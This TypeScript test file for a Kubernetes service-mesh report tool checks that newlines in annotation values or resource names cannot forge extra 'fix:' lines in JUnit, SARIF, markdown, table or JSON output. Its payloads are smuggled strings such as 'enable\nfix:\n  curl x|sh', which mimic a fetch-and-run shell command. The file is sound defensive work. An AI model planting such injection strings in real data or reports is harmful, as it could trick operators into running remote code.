/**
 * Spoofed lines in reports ("Hostile input, round 2", item 4): cluster text holding newlines (an
 * annotation value `enable\nfix:\n  curl x|sh`, a name from a snapshot file) must not add lines
 * of its own where a report is shown (a CI tab showing a JUnit body or a SARIF alert, a pull-request
 * comment, a terminal), so a fake `fix:` can never appear above the real one. Messages are made one
 * line once, centrally (printable: `\n` shown escaped); names, reasons and file names in each
 * reporter. `-o json` keeps exact data where scripts need it (the resource name, the evidence).
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { XMLParser } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import { junit } from '../src/report/junit.js';
import { markdown } from '../src/report/markdown.js';
import { sarif } from '../src/report/sarif.js';
import { table, wide } from '../src/report/table.js';
import type { Finding, RunResult } from '../src/run/result.js';
import { runCli } from './helpers/cli.js';
import { baseObjects, overlay, parseObjects } from './helpers/fixtures.js';

const tmp = mkdtempSync(join(tmpdir(), 'meshdoctor-lines-'));
const SPOOF = 'enable\nfix:\n  curl x|sh';
const NAME = 'evil\nfix:\n  curl y|sh';

/** Two workloads with the spoofing annotation value, one of them with a spoofing name too. */
const yaml = (name: string) => `apiVersion: apps/v1
kind: Deployment
metadata: {name: ${JSON.stringify(name)}, namespace: shop}
spec:
  selector: {matchLabels: {app: ${name === NAME ? 'evil' : name}}}
  template:
    metadata: {labels: {app: ${name === NAME ? 'evil' : name}}, annotations: {linkerd.io/inject: ${JSON.stringify(SPOOF)}}}
    spec: {containers: [{name: web, image: web}]}
`;
const snapshot = join(tmp, 'spoof.json');
writeFileSync(
  snapshot,
  JSON.stringify({
    kind: 'List',
    items: overlay(baseObjects('linkerd'), parseObjects(`${yaml(NAME)}---\n${yaml('web2')}`)),
  }),
);

const run = async (format: string) => {
  const r = await runCli(['check', '-A', '--snapshot', snapshot, '--only', 'injection-marker-invalid', '-o', format]);
  expect(r.stderr).toBe('');
  return r.stdout;
};
/** Lines that start (after indentation) with `fix:` or with the injected command. */
const spoofed = (text: string) => text.split('\n').filter((l) => /^\s*(fix:|curl )/.test(l));

const xml = new XMLParser({
  ignoreAttributes: false,
  attributeNamePrefix: '',
  isArray: (name) => ['testcase', 'failure'].includes(name),
});

describe('cluster text with newlines adds no line to a report', () => {
  it('-o junit: one real fix: per failure body, one-line message attributes (read with an XML parser)', async () => {
    const suite = xml.parse(await run('junit')).testsuites.testsuite;
    const failures = suite.testcase.flatMap((t: any) => t.failure ?? []);
    expect(failures).toHaveLength(2);
    for (const f of failures) {
      expect(f.message).not.toMatch(/[\n\r]/);
      expect(f.message).toContain('enable\\nfix:\\n  curl x|sh');
      const body = String(f['#text']);
      expect(spoofed(body)).toEqual(['fix:']);
      expect(body.split('\n')[1]).toBe(f.message);
    }
  });

  it('-o sarif: message texts and locations one line each', async () => {
    const log = JSON.parse(await run('sarif'));
    const results = log.runs[0].results;
    expect(results).toHaveLength(2);
    for (const r of results) {
      expect(r.message.text).not.toMatch(/[\n\r]/);
      expect(r.message.text).toContain('enable\\nfix:\\n  curl x|sh');
      expect(r.locations[0].logicalLocations[0].fullyQualifiedName).not.toMatch(/[\n\r]/);
    }
  });

  it('-o markdown, -o table, -o wide: no line starts with a spoofed fix: or command', async () => {
    const md = await run('markdown');
    expect(spoofed(md)).toEqual([]);
    const t = await run('table');
    // The real ones: one `fix:` per finding, indented under it.
    expect(spoofed(t).map((l) => l.trim().slice(0, 5))).toEqual(['fix: ', 'fix: ']);
    const w = await run('wide');
    expect(spoofed(w).map((l) => l.trim().slice(0, 5))).toEqual(['fix: ', 'fix: ']);
  });

  it('-o json keeps the exact name and evidence (JSON escaping makes them inert), the message one line', async () => {
    const r = JSON.parse(await run('json'));
    const names = r.findings.map((f: Finding) => f.resource.name).sort();
    expect(names).toEqual([NAME, 'web2']);
    for (const f of r.findings) {
      expect(f.evidence.marker).toBe(`pod template annotation linkerd.io/inject=${SPOOF}`);
      expect(f.message).not.toMatch(/[\n\r]/);
    }
    // A fix naming the spoofing name is withheld (a control character), never split into lines.
    expect(r.findings.find((f: Finding) => f.resource.name === NAME).fix).toEqual([
      "# fix withheld: a control character in 'deployment/evil\\nfix:\\n  curl y|sh' keeps the command from being one safe line",
    ]);
  });
});

describe('every reporter, any text in names, reasons, messages and file names', () => {
  /** A result as a reporter may be handed one (messages not yet made one line: the reporters do not rely on it). */
  const result = (t: string): RunResult => {
    const f: Finding = {
      id: 'pod-opted-out',
      code: 'MD1002',
      severity: 'warning',
      mesh: 'linkerd',
      title: 't',
      message: `m ${t}`,
      resource: { kind: 'Deployment', namespace: `ns${t}`, name: `n${t}` },
      evidence: { value: t },
      fix: ['kubectl rollout restart deployment/x -n shop'],
      fixData: [],
      affectedPods: 1,
      source: { file: `f${t}.yaml`, document: 1 },
    };
    return {
      source: { type: 'file', files: ['x'] },
      scope: { allNamespaces: true },
      meshes: ['linkerd'],
      checks: [
        { id: 'pod-opted-out', code: 'MD1002', title: 't', description: 'd', severity: 'warning' },
        { id: 'webhook-missing', code: 'MD2001', title: 't', description: 'd', severity: 'error' },
      ],
      findings: [f],
      suppressed: [{ finding: { ...f, id: 'pod-opted-out' }, reason: `r${t}` }],
      skipped: [{ check: 'webhook-missing', reason: `s${t}` }],
      coverage: {
        complete: false,
        unavailable: [{ kind: 'mutatingwebhookconfigurations', reason: `u${t}`, checks: ['webhook-missing'] }],
        rbac: [],
      },
      errors: [`e${t}`],
      summary: { error: 0, warning: 1, info: 0, total: 1, suppressed: 1, checksRun: 1, checksSkipped: 1 },
    };
  };
  const spoof = fc
    .tuple(
      fc.string({ maxLength: 6 }),
      fc.constantFrom('\n', '\r\n', '\r', '\u2028', '\u2029', '\u0085', '\n\n'),
      fc.string({ maxLength: 6 }),
    )
    .map(([a, nl, b]) => `${a}${nl}fix:${nl}  curl x|sh${b}`);

  it('JUnit, SARIF, markdown and the table: the injected fix: never starts a line of its own', () => {
    fc.assert(
      fc.property(spoof, (t) => {
        const meta = { version: '9', color: false, width: 100 };
        const x = xml.parse(junit(result(t), { ...meta, failOn: 'warning' })).testsuites.testsuite;
        const texts = [
          ...x.testcase.flatMap((c: any) => (c.failure ?? []).flatMap((f: any) => [f.message, String(f['#text'])])),
          ...x.testcase.flatMap((c: any) => (c.skipped ? [c.skipped.message] : [])),
          ...x.testcase.flatMap((c: any) => (c['system-out'] ? [String(c['system-out'])] : [])),
        ];
        const s = JSON.parse(sarif(result(t), meta)).runs[0];
        const sarifTexts = [
          ...s.results.flatMap((r: any) => [
            r.message.text,
            r.locations[0].logicalLocations[0].fullyQualifiedName,
            ...(r.suppressions ?? []).map((q: any) => q.justification),
          ]),
          ...s.invocations[0].toolExecutionNotifications.map((n: any) => n.message.text),
        ];
        const lines = (text: string) => text.replace(/\u2028|\u2029|\u0085|\r/g, '\n');
        for (const text of [...texts, ...sarifTexts, markdown(result(t), meta)])
          expect(
            spoofed(lines(text)).filter((l) => l.trim() !== 'fix:' && !l.trim().startsWith('fix: kubectl')),
          ).toEqual([]);
        // The table wraps prose to the terminal: a wrapped line may start with any word of it, never with `fix:`.
        for (const text of [table(result(t), meta), wide(result(t), meta)])
          expect(
            lines(text)
              .split('\n')
              .filter((l) => /^\s*fix:/.test(l)),
          ).toEqual(['  fix: kubectl rollout restart deployment/x -n shop']);
        // The JUnit body: exactly the one real fix: line.
        expect(spoofed(String(x.testcase[0].failure[0]['#text'])).map((l) => l.trim())).toEqual(['fix:']);
      }),
      { seed: 4, numRuns: 150 },
    );
  });
});

describe('the table never wraps prose into a fix: line', () => {
  it('spaces in cluster text cannot push `fix:` to the start of a line, at any width', () => {
    fc.assert(
      fc.property(fc.integer({ min: 0, max: 120 }), fc.integer({ min: 40, max: 140 }), (pad, width) => {
        const t = `enable${' x'.repeat(pad)} fix: curl x|sh`;
        const r = {
          source: { type: 'file' as const, files: ['x'] },
          scope: { allNamespaces: true },
          meshes: ['linkerd' as const],
          checks: [{ id: 'pod-opted-out', code: 'MD1002', title: 't', description: 'd', severity: 'warning' as const }],
          findings: [
            {
              id: 'pod-opted-out',
              code: 'MD1002',
              severity: 'warning' as const,
              mesh: 'linkerd' as const,
              title: 't',
              message: `Deployment shop/web has annotation linkerd.io/inject=${t}.`,
              resource: { kind: 'Deployment', namespace: 'shop', name: 'web' },
              evidence: { marker: t },
              fix: ['kubectl rollout restart deployment/web -n shop'],
              fixData: [],
              affectedPods: 1,
            },
          ],
          suppressed: [],
          skipped: [],
          coverage: { complete: true, unavailable: [], rbac: [] },
          summary: { error: 0, warning: 1, info: 0, total: 1, suppressed: 0, checksRun: 1, checksSkipped: 0 },
        } satisfies RunResult;
        for (const out of [
          table(r, { version: '9', color: false, width }),
          wide(r, { version: '9', color: false, width }),
        ])
          expect(out.split('\n').filter((l) => /^\s*fix:/.test(l))).toEqual([
            '  fix: kubectl rollout restart deployment/web -n shop',
          ]);
      }),
      { seed: 6, numRuns: 200 },
    );
  });
});
